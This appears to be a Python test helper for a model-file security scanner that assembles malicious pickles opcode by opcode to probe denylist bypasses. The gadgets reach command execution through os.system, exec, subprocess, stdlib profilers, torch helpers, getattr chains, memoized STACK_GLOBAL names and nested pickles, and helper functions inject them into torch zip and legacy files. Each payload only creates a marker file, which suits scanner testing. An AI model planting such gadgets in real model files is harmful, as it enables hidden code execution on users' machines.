"""Our own bypass attempts: pickles built byte by byte whose payload creates a marker file.

Each gadget is (name, opcodes): the opcodes push one value that, when a real unpickler
runs it, creates ``MARKER`` (a path given at build time). They aim at denylists: stdlib
runners (cProfile, profile, trace, timeit, pydoc, uuid), torch helpers, Python 2 names,
names built on the stack from the memo, dotted protocol-4 names, call-of-a-call chains and
nested pickles. ``containers`` wraps each into every file kind mltools reads.
"""

from __future__ import annotations

import io
import pickletools
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path


# --- a tiny encoder ---------------------------------------------------------------------
def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def b(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data  # BINBYTES


def i(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:  # STACK_GLOBAL
    return s(module) + s(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def _py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def gadgets(marker: Path, nested: Callable[[bytes], bytes] | None = None) -> dict[str, bytes]:
    """name -> opcodes that push the payload's result (no PROTO, no STOP)."""
    m = str(marker)
    py = _py(marker)
    out = {
        "posix.system": call(g("posix", "system"), s(f"touch {m}")),
        "os.system": call(g("os", "system"), s(f"touch {m}")),
        "builtins.exec": call(g("builtins", "exec"), s(py)),
        "py2 __builtin__.eval": call(g("__builtin__", "eval"), s(py)),
        "py2 __builtin__.exec": call(g("__builtin__", "exec"), s(py)),
        "cProfile.run": call(g("cProfile", "run"), s(py)),
        "profile.run": call(g("profile", "run"), s(py)),
        "pydoc.pipepager": call(g("pydoc", "pipepager"), s("x"), s(f"touch {m}")),
        "uuid._get_command_stdout": call(g("uuid", "_get_command_stdout"), s("touch"), s(m)),
        "subprocess.call": call(g("subprocess", "call"), lst(s("touch"), s(m))),
        "subprocess.Popen": call(g("subprocess", "Popen"), lst(s("touch"), s(m))),
        "torch.utils.collect_env.run": call(g("torch.utils.collect_env", "run"), s(f"touch {m}")),
        "logging.FileHandler": call(g("logging", "FileHandler"), s(m)),
        "logging.handlers.WatchedFileHandler": call(
            g("logging.handlers", "WatchedFileHandler"), s(m)
        ),
        "venv.create": call(g("venv", "create"), s(m)),
        "shutil.copyfile": call(g("shutil", "copyfile"), s("/dev/null"), s(m)),
        "zipfile.ZipFile": call(g("zipfile", "ZipFile"), s(m), s("w")),
        "io.FileIO": call(g("io", "FileIO"), s(m), s("w")),
        "_io.FileIO": call(g("_io", "FileIO"), s(m), s("w")),
        "codecs.open": call(g("codecs", "open"), s(m), s("w")),
        "gzip.open": call(g("gzip", "open"), s(m), s("wb")),
        "numpy.testing runstring": call(
            g("numpy.testing._private.utils", "runstring"), s(py), b"}"
        ),
        "pickle.loads nested": call(
            g("pickle", "loads"),
            b(b"\x80\x02" + call(g("posix", "system"), s(f"touch {m}")) + b"."),
        ),
        "_pickle.loads nested": call(
            g("_pickle", "loads"),
            b(b"\x80\x02" + call(g("posix", "system"), s(f"touch {m}")) + b"."),
        ),
        # protocol 4 names: dotted, built on the stack, from the memo
        "STACK_GLOBAL posix.system": call(sg("posix", "system"), s(f"touch {m}")),
        "STACK_GLOBAL from memo": s("posix")
        + b"\x94"  # MEMOIZE 0
        + s("system")
        + b"\x94"  # MEMOIZE 1
        + b"0" * 2  # POP both
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + b"("
        + s(f"touch {m}")
        + b"tR",
        "dotted pathlib.os.system": call(sg("pathlib", "os.system"), s(f"touch {m}")),
        "dotted pathlib.Path.touch": call(
            sg("pathlib", "Path.touch"), call(g("pathlib", "PosixPath"), s(m))
        ),
        "dotted trace.Trace.runctx": call(
            sg("trace", "Trace.runctx"),
            call(g("trace", "Trace"), i(0), i(0)),
            s(py),
            b"}",
            b"}",
        ),
        "dotted cProfile.Profile.runctx": call(
            sg("cProfile", "Profile.runctx"), call(g("cProfile", "Profile")), s(py), b"}", b"}"
        ),
        "dotted logging.FileHandler via STACK_GLOBAL": call(sg("logging", "FileHandler"), s(m)),
        # call of a call result: getattr(__import__('os'), 'system')('touch M')
        "getattr chain": call(
            call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")),
            s(f"touch {m}"),
        ),
        "operator.methodcaller chain": call(
            call(g("operator", "methodcaller"), s("system"), s(f"touch {m}")),
            call(g("builtins", "__import__"), s("os")),
        ),
    }
    # functools.partial(...)() : REDUCE with an empty tuple on the partial object
    out["functools.partial chain"] = (
        call(g("functools", "partial"), g("posix", "system"), s(f"touch {m}")) + b")R"
    )
    if nested is not None:
        payload = nested(b"\x80\x02}" + s("x") + out["posix.system"] + b"s.")
        out["torch.storage._load_from_bytes nested"] = call(
            g("torch.storage", "_load_from_bytes"), b(payload)
        )
    return out


def protocol_of(name: str) -> int:
    """Dotted names resolve only from protocol 4 on (real pickle's rule)."""
    return 4 if name.startswith(("dotted", "STACK_GLOBAL")) else 2


def as_pickle(opcodes: bytes, protocol: int = 2) -> bytes:
    """A pickle of ``{'w': <payload result>}``."""
    return b"\x80" + bytes([protocol]) + b"}" + s("w") + opcodes + b"s."


def inject(pickle_bytes: bytes, opcodes: bytes) -> bytes:
    """Run ``opcodes`` first (result popped), then the original pickle (modelscan style)."""
    head = 2 if pickle_bytes[:1] == b"\x80" else 0
    return pickle_bytes[:head] + opcodes + b"0" + pickle_bytes[head:]


# --- containers -------------------------------------------------------------------------
def replace_data_pkl(src: Path, dst: Path, data: bytes) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(info, data if info.filename.endswith("/data.pkl") else zin.read(info))


def split_legacy(data: bytes) -> tuple[list[bytes], bytes]:
    """The five pickles of a legacy torch file, and the raw storage bytes after them."""
    pickles, pos = [], 0
    for _ in range(5):
        for op, _arg, p in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                pickles.append(data[pos : pos + p + 1])
                pos += p + 1
                break
    return pickles, data[pos:]


def legacy_with(src_bytes: bytes, which: int, opcodes: bytes) -> bytes:
    pickles, rest = split_legacy(src_bytes)
    pickles[which] = inject(pickles[which], opcodes)
    return b"".join(pickles) + rest
